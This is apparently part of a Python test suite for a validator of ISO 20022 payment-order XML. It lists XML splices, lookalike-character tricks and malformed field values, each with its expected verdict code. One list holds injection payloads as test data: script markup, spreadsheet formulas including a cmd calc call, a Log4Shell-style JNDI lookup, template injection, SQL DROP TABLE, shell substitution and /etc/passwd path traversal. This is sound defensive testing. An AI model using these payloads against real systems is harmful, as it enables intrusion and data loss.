    ("a prefix named xml", change("<RmtInf>", '<RmtInf xmlns:xml="urn:e">'), "CT-07 not_xml"),
    ("a prefix named xmlns", change("<RmtInf>", '<RmtInf xmlns:xmlns="urn:e">'), "CT-07 not_xml"),
    ("a prefix without a namespace", change("<RmtInf>", '<RmtInf xmlns:e="">'), "CT-07 not_xml"),
    ("a name of three parts", change("<RmtInf>", "<a:b:c/><RmtInf>"), "CT-07 not_xml"),
    ("a namespace that is no URI", change("<RmtInf>", '<RmtInf xmlns:e="\\ &lt;%zz">'), "CT-07 not_xml"),
    ("two prefixes for one namespace", change("<Document ", f'<Document xmlns:p="{SPACE}" ').replace("<RmtInf>", "<p:RmtInf>").replace("</RmtInf>", "</p:RmtInf>"), "accepted 100.00"),
    ("a namespace declared twice", change("<Document ", f'<Document xmlns="{SPACE}" '), "CT-07 not_xml"),
    ("the block's prefix declared on itself", change("<PmtInf>", f'<p:PmtInf xmlns:p="{SPACE}">').replace("</PmtInf>", "</p:PmtInf>"), "accepted 100.00"),
    ("a tag that looks like ours: another letter of Cyrillic", BODY.replace("PmtInf>", "PmtInf\u0435>"), "CT-07 at PmtInfе"),
    ("a root that looks like ours", BODY.replace("Document", "D\u043ecument"), "FIL-06 Dоcument in urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"),
]

SPLICES: Rows = [
    ("an order in a comment", change("<CdtTrfTxInf>", f"<!-- {ORDER} --><CdtTrfTxInf>"), "accepted 100.00"),
    ("an order's end in a comment", change("<RmtInf>", "<!-- </CdtTrfTxInf> --><RmtInf>"), "accepted 100.00"),
    ("an order's end in CDATA", told("<![CDATA[</CdtTrfTxInf><CdtTrfTxInf>]]>"), "accepted 100.00 CHR-01 RmtInf/Ustrd"),
    ("an order's end in an instruction", change("<RmtInf>", "<?a </CdtTrfTxInf><CdtTrfTxInf>?><RmtInf>"), "accepted 100.00"),
    ("an order's end in an attribute", change("<Document ", '<Document a="&lt;/CdtTrfTxInf>" '), "CT-07 at Document"),
    ("a block's end in a comment", change("<RmtInf>", "<!-- </CdtTrfTxInf></PmtInf><PmtInf> --><RmtInf>"), "accepted 100.00"),
    ("an order's end by references", told("&lt;/CdtTrfTxInf&gt;&lt;CdtTrfTxInf&gt;"), "accepted 100.00 CHR-01 RmtInf/Ustrd"),
    ("a comment in a tag's name", change("<RmtInf>", "<Rmt<!-- -->Inf>"), "CT-07 not_xml"),
    ("a comment in a tag", change("<RmtInf>", "<RmtInf <!-- --> >"), "CT-07 not_xml"),
    ("a comment in an amount", amount("1<!-- -->00.00"), "accepted 100.00"),
    ("an instruction in an amount", amount("1<?a?>00.00"), "accepted 100.00"),
    ("CDATA in an amount", amount("<![CDATA[100.00]]>"), "accepted 100.00"),
    ("half an amount in CDATA", amount("1<![CDATA[0]]>0.00"), "accepted 100.00"),
    ("a reference in an amount", amount("&#49;00.00"), "accepted 100.00"),
    ("a comment in an account", change("SK3112000000198742637541", "SK31<!-- -->12000000198742637541"), "accepted 100.00"),
    ("an element in an amount", amount("1<a/>00.00"), "CT-07 at InstdAmt"),
    ("a comment that hides the header", change("<GrpHdr>", "<!-- <GrpHdr>").replace("</GrpHdr>", "</GrpHdr> -->"), "CT-07 at PmtInf"),
    ("a comment that names another message", change("<Document", f'<!-- <Document xmlns="{SPACE[:-2]}03"> --><Document'), "accepted 100.00"),
    ("a comment with two hyphens", change("<RmtInf>", "<!-- -- --><RmtInf>"), "CT-07 not_xml"),
    ("a comment that ends in three", change("<RmtInf>", "<!-- a ---><RmtInf>"), "CT-07 not_xml"),
    ("a comment never closed", change("<RmtInf>", "<!-- <RmtInf>"), "CT-07 truncated"),
    ("CDATA never closed", told("<![CDATA[Platba"), "CT-07 truncated"),
    ("CDATA in CDATA", told("<![CDATA[<![CDATA[a]]>]]>"), "CT-07 not_xml"),
    ("CDATA's end in a text", told("a]]>b"), "CT-07 not_xml"),
    ("CDATA between elements", change("<RmtInf>", "<![CDATA[text]]><RmtInf>"), "CT-07 at CdtTrfTxInf"),
    ("empty CDATA between elements", change("<RmtInf>", "<![CDATA[]]><RmtInf>"), "accepted 100.00"),
    ("CDATA before the root", change("<Document", "<![CDATA[ ]]><Document"), "CT-07 not_xml"),
    ("CDATA in small letters", told("<![cdata[a]]>"), "CT-07 not_xml"),
    ("a section that is ignored", told("<![IGNORE[a]]>"), "CT-07 not_xml"),
    ("an order after a comment", change("</PmtInf>", "<!-- -->" + ORDER + "</PmtInf>"), "BAT-03 number_of_transactions, control_sum"),
    ("an order cut off", GOOD[: GOOD.index("<RmtInf>")], "CT-07 truncated"),
    ("cut off behind an order", GOOD[: GOOD.index("</PmtInf>")], "CT-07 truncated"),
    ("cut off behind a block", GOOD[: GOOD.index("</CstmrCdtTrfInitn>")], "CT-07 truncated"),
    ("cut off inside the last tag", GOOD.rstrip()[:-1], "CT-07 truncated"),
    ("a greater-than in a text", told("a > b"), "accepted 100.00 CHR-01 RmtInf/Ustrd"),
    ("a greater-than in an attribute", change('Ccy="EUR"', 'Ccy=">EUR"'), "CT-07 at InstdAmt"),
    ("a less-than in an attribute", change('Ccy="EUR"', 'Ccy="<EUR"'), "CT-07 not_xml"),
    ("an attribute without quotes", change('Ccy="EUR"', "Ccy=EUR"), "CT-07 not_xml"),
    ("an attribute in typographic quotes", change('Ccy="EUR"', "Ccy=“EUR”"), "CT-07 not_xml"),
    ("an order twice", change(ORDER, ORDER * 2), "BAT-03 number_of_transactions, control_sum"),
]
TEXTS: Rows = [
    ("markup", named("&lt;script&gt;alert(1)&lt;/script&gt;"), "accepted 100.00 CHR-01 Cdtr/Nm"),
    ("markup in an attribute", named("&quot; onmouseover=&quot;alert(1)"), "accepted 100.00 CHR-01 Cdtr/Nm"),
    ("a formula", named("=cmd|' /C calc'!A1"), "accepted 100.00 CHR-01 Cdtr/Nm"),
    ("a formula with a plus", told("+SUM(1,2)"), "accepted 100.00"),
    ("a formula with a minus", told("-2+3"), "accepted 100.00"),
    ("a formula with an at", told("@SUM(A1)"), "accepted 100.00 CHR-01 RmtInf/Ustrd"),
    ("a formula that calls", told("=HYPERLINK(\"http://127.0.0.1:{port}\")"), "accepted 100.00 CHR-01 RmtInf/Ustrd"),
    ("a formula behind a tab", told("\t=1+1"), "rejected CHR-02 RmtInf/Ustrd"),
    ("a template of Jinja", named("{{7*7}}"), "accepted 100.00 CHR-01 Cdtr/Nm"),
    ("a template that reads", told("{{ self.__init__.__globals__ }}"), "accepted 100.00"),
    ("a block of Jinja", told("{% raw %}"), "accepted 100.00 CHR-01 RmtInf/Ustrd"),
    ("a template of Java's log", told("${jndi:ldap://127.0.0.1:{port}/a}"), "accepted 100.00 CHR-01 RmtInf/Ustrd"),
    ("blanks of our own sentences", told("{found} {where} {0} {}"), "accepted 100.00"),
    ("per cent", told("%s%n%x%d"), "accepted 100.00 CHR-01 RmtInf/Ustrd"),
    ("markup of a console", told("[red]a[/red] [link=http://127.0.0.1:{port}]b[/link]"), "accepted 100.00 CHR-01 RmtInf/Ustrd"),
    ("SQL", told("'); DROP TABLE orders; --"), "accepted 100.00"),
    ("a command", told("$(id) `id` ; id | id"), "accepted 100.00 CHR-01 RmtInf/Ustrd"),
    ("a path", told("../../../etc/passwd"), "accepted 100.00"),
    ("turned direction", named("Ocel\u202eiareň"), "rejected CHR-02 Cdtr/Nm"),
    ("an isolate", named("Ocel\u2066iareň"), "rejected CHR-02 Cdtr/Nm"),
    ("a zero-width blank", named("Ocel\u200biareň"), "rejected CHR-02 Cdtr/Nm"),
    ("a joiner", named("Ocel\u200diareň"), "rejected CHR-02 Cdtr/Nm"),
    ("a soft hyphen", named("Ocel\u00adiareň"), "rejected CHR-02 Cdtr/Nm"),
    ("a filler of Hangul", named("\u3164"), "rejected CHR-02 Cdtr/Nm"),
    ("a variation selector", named("O\ufe0fceliareň"), "rejected CHR-02 Cdtr/Nm"),
    ("a tag of a language", named("Oceliareň\U000e0041"), "rejected CHR-02 Cdtr/Nm"),
    ("private use", named("Oceliareň\ue000"), "rejected CHR-02 Cdtr/Nm"),
    ("line separators", told("a\u2028b\u2029c"), "rejected CHR-02 RmtInf/Ustrd"),
    ("a line end", told("a\nERROR root logged in"), "rejected CHR-02 RmtInf/Ustrd"),
    ("a carriage return by a reference", told("a&#13;&#10;b"), "rejected CHR-02 RmtInf/Ustrd"),
    ("letters of Cyrillic that look Latin", named("\u041e\u0441\u0435li\u0430r\u0435n"), "accepted 100.00"),
    ("a thousand marks on a letter", named("Z" + "\u0301" * 60), "accepted 100.00"),
    ("letters of a higher plane", named("\U0001d4de"), "accepted 100.00"),
    ("a face", named("Oceliareň \U0001f600"), "accepted 100.00 CHR-01 Cdtr/Nm"),
    ("a right-to-left name", named("שלום"), "accepted 100.00 CHR-01 Cdtr/Nm"),
    ("ligatures", named("ﬀﬁﬂ"), "accepted 100.00 CHR-01 Cdtr/Nm"),
    ("a name of blanks", named("   "), "accepted 100.00"),
    ("a name of blanks of all widths", named("\u2003\u3000\u00a0"), "accepted 100.00"),
    ("a name one too long", named("a" * 141), "CT-07 at Nm"),
    ("an empty name", named(""), "CT-07 at Nm"),
]

VALUES: Rows = [
    *rows("amount", amount, {
        "CT-07 at InstdAmt": ("NaN", "nan", "INF", "-INF", "Infinity", "1_000", "-5", "1e3", "1E3", "0x10", "1,00", "1 000.00", "1'000.00", "1.000,00", ".", "9999999999999999999", "9" * 400, "١٠٠.٠٠", "１００.００", "१००", "１００", "1²", "100\u00a0", "100.00\u200b", "1\u202e00.00", "100.00EUR", "€100", "", "  ", "True", "None", "1/2", "10%", "١٠٠٫٠٠"),
        "rejected SCH-06 Amt/InstdAmt": ("+5", "-0", "-0.00", "100.", ".50", "999999999999999999", "0.001", "100.001"),
        "accepted 00100.00": ("00100.00",),
        "accepted 0000000000000001.00": ("0000000000000001.00",),
        "held EYE-01 Amt/InstdAmt": ("999999999.99",),
        "rejected SCH-08 Amt/InstdAmt": ("1000000000.00",),
        "rejected SCH-07 Amt/InstdAmt": ("0.00", "0",),
        "accepted 100.000": ("100.000",),
        "accepted 100.00000": ("100.00000",),
        "accepted 100.000000": ("100.000000",),
        "accepted 0.01": ("0.01",),
        "accepted 100.00": (" 100.00 ", "100.00&#10;",),
        "accepted 1": ("&#x31;",),
    }),
    *rows("currency", lambda text: amount("100.00", text), {
        "CT-07 at InstdAmt": ("eur", "EUＲ", "EURO", "", "ЕUR"),
        "rejected CT-02 Amt/InstdAmt/@Ccy": ("XXX", "XTS", "USD"),
    }),
    *rows("number of orders", lambda text: change("<NbOfTxs>1<", f"<NbOfTxs>{text}<"), {
        "BAT-03 number_of_transactions": ("0", "2", "999999999999999"),
        "accepted 100.00": ("01",),
        "CT-07 at NbOfTxs": ("+1", "-1", "1.0", "١", "9999999999999999", ""),
    }),
    *rows("control sum", lambda text: change("<CtrlSum>100.00<", f"<CtrlSum>{text}<"), {
        "accepted 100.00": ("100", "100.0", "+100.00"),
        "CT-07 at CtrlSum": ("1e2", "NaN", "100.00000000000000001", ""),
        "BAT-03 control_sum": ("100.001", "99.99", "999999999999999999", "-100.00"),
    }),
    *rows("due", due, {
        "block SCH-13 requested_date": ("2026-04-02Z", "2026-04-02+14:00", "2026-04-02-14:00", "-0001-01-01", "10000-01-01", "99999999999-01-01"),
        "CT-07 at Dt": ("2026-04-02+15:00", "2026-4-2", "26-04-02", "2026-02-29", "2026-02-30", "2026-13-01", "2026-00-01", "2026-04-00", "2026-04-31", "0000-01-01", "2026-04-02T00:00:00", "2026/04/02", "02.04.2026", "20260402", "2026-W14-4", "2026-092", " 2026-04-02 ", "2026-04-02\n", "٢٠٢٦-٠٤-٠٢", "２０２６-04-02", "2026–04–02", "today", ""),
        "block DAT-03 requested_date": ("0001-01-01", "9999-12-31", "1970-01-01"),
        "rolled DAT-08 ReqdExctnDt/Dt": ("2026-04-03", "2026-04-05",),
    }),
    *rows("created", created, {
        "accepted 100.00": ("2026-04-02T24:00:00", "2026-04-02T12:00:00.123456789012345678901234567890", "2026-04-02T12:00:00+14:00", "9999-12-31T24:00:00", "9999-12-31T23:59:59-14:00", "10000-01-01T00:00:00", "0001-01-01T00:00:00+14:00", "-2026-04-02T12:00:00", "2026-04-02T12:00:00Z", "2099-01-01T00:00:00"),
        "CT-07 at CreDtTm": ("2026-04-02T24:00:01", "2026-04-02T23:59:60", "2026-04-02T25:00:00", "2026-04-02T12:60:00", "2026-04-02T12:00:00+14:01", "2026-04-02T12:00:00-99:00", "0000-01-01T00:00:00", "2026-04-02", "2026-04-02 12:00:00", "2026-04-02T12:00", ""),
    }),
    *rows("account", lambda text: change("<IBAN>SK3112000000198742637541<", f"<IBAN>{text}<"), {
        "CT-07 at IBAN": ("SK31 1200 0000 1987 4263 7541", "sk3112000000198742637541", "SK3112000000198742637541 ", "SK31", "SK3112000000198742637541\u200b", "ЅK3112000000198742637541", "SK٣١12000000198742637541", "SK31" + "9" * 200, "' OR 1=1", "../../x", ""),
        "rejected IDN-01 CdtrAcct/Id/IBAN": ("SK3112000000198742637540", "XX3112000000198742637541", "SK31120000001987426375411", "SK0000000000000000000000"),
        "rejected IDN-04 CdtrAgt/FinInstnId/BICFI": ("AT611904300234573201",),
        "CT-07 not_xml": ("SK3112000000198742637541&#0;",),
    }),
    *rows("end-to-end", lambda text: change("REF-1", text), {
        "rejected CHR-03 PmtId/EndToEndId": ("/", "//", "a//b", "=1+1", "{{7*7}}", "é", " "),
        "accepted 100.00": ("/VS1/SS2/KS3", "../x", "a" * 35, "NOTPROVIDED"),
        "CT-07 at EndToEndId": ("a" * 36, "", "<b/>",),
        "rejected CHR-02 PmtId/EndToEndId": ("\u200b",),
        "FIL-03 0x00": ("a\u0000b",),
    }),
    *rows("message", lambda text: GOOD.replace("GOOD-0001<", f"{text}<"), {
        "accepted 100.00": ("../../x", "a/b", "=1+1", "{{7*7}}", "CON", "%00", "é"),
        "CHR-03 message_id": ("\u202e", "a\nb",),
        "CT-07 at MsgId": ("a" * 36, "",),
    }),
    *rows("bank", lambda text: change("<Cdtr>", f"<CdtrAgt><FinInstnId><BICFI>{text}</BICFI></FinInstnId></CdtrAgt><Cdtr>"), {
        "accepted 100.00": ("TATRSKBX", "TATRSKBXXXX", "OTPVSKBX", "TATRSK00"),
        "CT-07 at BICFI": ("tatrskbx", "TATRSKB", "TATRSKBX ", "TATRЅKBX", "TATRSKBX&#10;", "../etc", ""),
        "rejected IDN-02 CdtrAgt/FinInstnId/BICFI": ("AAAAAAAA",),
    }),
]
